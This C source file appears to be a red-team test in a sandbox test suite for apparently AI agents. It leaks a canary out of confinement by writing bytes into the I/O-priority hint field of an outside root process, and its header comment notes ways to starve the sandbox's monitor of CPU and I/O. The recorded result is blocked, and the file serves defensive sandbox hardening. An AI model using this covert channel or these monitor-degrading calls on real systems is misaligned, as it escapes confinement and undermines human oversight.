// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* ioprio_outside - an --as-root agent writes into the I/O priority of a process outside it (red
 * team addition; the ioprio_set twin of prlimit_outside). ioprio_set(IOPRIO_WHO_PROCESS, pid, v)
 * is allowed by the launcher's seccomp filter for any pid (prlimit64 is refused for pid != 0
 * since prlimit_outside; ioprio_set, setpriority, sched_setaffinity, sched_setscheduler and
 * sched_setattr are not), and the kernel lets the caller set another task's I/O priority when
 * its uid or euid equals that task's uid (set_task_ioprio), or with CAP_SYS_NICE: a root agent
 * (uid 0, no CAP_SYS_NICE) may set it for every root task of the host, one pid at a time, a
 * process group (IOPRIO_WHO_PGRP) or all of uid 0 at once (IOPRIO_WHO_USER). Neither Landlock
 * (it scopes signals and ptrace only) nor mnc judges it. The value holds more than covert_ioprio
 * assumed: class best-effort (no capability), level 0..7 and, since Linux 6.5, a 10-bit hint
 * field (bits 3..12) that ioprio_check_cap does not validate: 13 bits per task, read back by any
 * process with ioprio_get(IOPRIO_WHO_PROCESS, pid) (no permission check, no /proc, so hidepid
 * does not help). Here the target is the collector (an untainted root process outside the
 * agent, pid "cpid"): per byte of the canary the agent sets the collector's ioprio to class BE,
 * hint = the byte, and waits at sync "bN" while uid 65534 reads it. The bytes live in a process
 * that is not the agent's and outlast it; the same calls reach mncd's own tasks (an integrity
 * problem too: I/O class idle, nice 19, SCHED_IDLE, a one-CPU affinity for the monitor). The
 * agent also tries sched_setaffinity and sched_setscheduler(SCHED_IDLE) on the collector and
 * notes the results (not verified). An agent with its own uid owns no outside task: EPERM.
 * Verifier: uid 65534 reads ioprio_get of the collector at each sync; the hint fields of the 14
 * readings are compared with the canary.
 * Result (host, cgroup backend, 6.18): BLOCKED in both modes, EPERM for all three calls. Root
 * mode is stopped by the capability LSM, not by mnc: cap_task_setioprio / cap_task_setscheduler
 * (cap_safe_nice) also require the target's permitted capabilities to be a subset of the
 * caller's, and the collector (full root) has more than the agent's 0x41f. A root target with
 * no more capabilities than that (another --as-root agent) would pass; not tried.
 * Side result: the 10-bit hint field round-trips for an unprivileged task setting its own
 * ioprio (uid 65534: set 0x5d2d, get 0x5d2d), so covert_ioprio carries 13 bits per thread, not 3.
 * What would block the remaining cases: the seccomp filter refusing ioprio_set / setpriority /
 * sched_set* for any target but the caller, as for prlimit64. */
#include <sched.h>
#include <sys/syscall.h>

#include "atk_variants.h"

#define IO_WHO_PROCESS 1
#define IO_CLASS_BE 2
#define IO_VAL(hint) ((IO_CLASS_BE << 13) | ((unsigned)(hint) << 3))

static int agent(struct atk_ctx *c)
{
    pid_t pid = (pid_t)atk_argl(c, "cpid");
    size_t n = strlen(c->secret);
    long orig = syscall(SYS_ioprio_get, IO_WHO_PROCESS, pid);
    int ok = 0, first_err = 0;
    for (size_t i = 0; i < n && i < 16; i++) {
        long r = syscall(SYS_ioprio_set, IO_WHO_PROCESS, pid, IO_VAL((unsigned char)c->secret[i]));
        if (r == 0)
            ok++;
        else if (!first_err)
            first_err = errno;
        char tag[8];
        snprintf(tag, sizeof(tag), "b%zu", i);
        atk_sync(c, tag);
    }
    atk_note(c, "ioprio_set(collector %d, class BE, hint = byte): %d/%zu %s", (int)pid, ok, n,
             ok == (int)n ? "OK" : atk_errname(first_err));
    if (orig >= 0)
        (void)syscall(SYS_ioprio_set, IO_WHO_PROCESS, pid, orig);
    /* the rest of the family, on the same outside task (noted only) */
    cpu_set_t set, old;
    CPU_ZERO(&set);
    CPU_SET(0, &set);
    if (sched_getaffinity(pid, sizeof(old), &old) == 0 &&
        atk_try(c, "sched_setaffinity(collector, CPU 0)", sched_setaffinity(pid, sizeof(set), &set)) == 0)
        (void)sched_setaffinity(pid, sizeof(old), &old);
    struct sched_param sp = {0};
    atk_try(c, "sched_setscheduler(collector, SCHED_IDLE)", sched_setscheduler(pid, SCHED_IDLE, &sp));
    return 0;
}

static char got[32];

static int nobody_reads(struct atk_ctx *c, char *out, size_t n)
{
    long v = syscall(SYS_ioprio_get, IO_WHO_PROCESS, (pid_t)atk_argl(c, "cpid"));
    snprintf(out, n, "%ld", v);
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    unsigned i;
    if (sscanf(tag, "b%u", &i) != 1 || i >= sizeof(got) - 1)
        return;
    char out[64] = "";
    long v = atk_as_uid(c, ATK_NOBODY, nobody_reads, out, sizeof(out)) >= 0 ? atol(out) : -1;
    if (v > 0 && (v >> 13) == IO_CLASS_BE)
        got[i] = (char)((v >> 3) & 0x3ff);
    if (strlen(c->canary) == i + 1) {
        if (strcmp(got, c->canary) == 0)
            atk_evidence(c,
                         "uid 65534 read the canary from the I/O priority (ioprio_get hint field) of the collector, a "
                         "root process outside the agent, one byte per reading");
        else {
            size_t l = strlen(c->notes);
            snprintf(c->notes + l, sizeof(c->notes) - l, "%sverifier read \"%s\"", l ? "; " : "", got);
        }
    }
}

static const struct atk A = {"ioprio_outside",
                             "another root process's I/O priority (ioprio_set by pid; 13 bits), read with "
                             "ioprio_get",
                             0,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
